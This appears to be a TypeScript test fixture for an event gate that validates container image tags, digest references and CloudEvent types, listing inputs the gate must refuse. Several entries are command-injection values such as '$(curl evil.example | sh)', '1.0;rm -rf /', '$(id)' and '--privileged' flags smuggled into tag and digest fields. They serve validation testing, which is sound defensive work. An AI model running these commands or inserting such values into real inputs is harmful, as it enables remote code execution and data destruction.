/** Events the gate at the edge must refuse (DESIGN.md "What an event must be"). */

/** Tags the OCI grammar `[A-Za-z0-9_][A-Za-z0-9._-]{0,127}` refuses, some of them hostile. */
export const HOSTILE_TAGS = [
  '$(curl evil.example | sh)',
  '${IMAGE}',
  '1.0;rm -rf /',
  'v1`id`',
  "v1' --privileged '",
  'a'.repeat(129),
  'x'.repeat(300),
  '.hidden',
  '-rc1',
  'v1\n--flag',
  'v 1',
  'v1&&reboot',
  'ünïcode',
];

/** Digest references of `image` the distribution grammar refuses; `digest` is a valid one. */
export const hostileDigests = (image: string, digest: string) => [
  `${image}@sha256:${digest.slice(7).toUpperCase()}`,
  `${image}@sha256:${digest.slice(7, 69)}`,
  `${image}@md5:${digest.slice(7, 39)}`,
  `${image}@sha256:$(id)`,
  `${image.toUpperCase()}@${digest}`,
  `${image}/\${IMAGE}@${digest}`,
  `https://${image}@${digest}`,
  `${image}@${digest} --privileged`,
  `${'a/'.repeat(200)}b@${digest}`,
];

/** CloudEvent types other than a Pub/Sub message, and none at all. */
export const OTHER_TYPES = [
  undefined,
  '',
  'google.cloud.storage.object.v1.finalized',
  'google.cloud.audit.log.v1.written',
  'google.cloud.pubsub.topic.v1.messagePublished.evil',
  'GOOGLE.CLOUD.PUBSUB.TOPIC.V1.MESSAGEPUBLISHED',
  'com.example.anything',
];
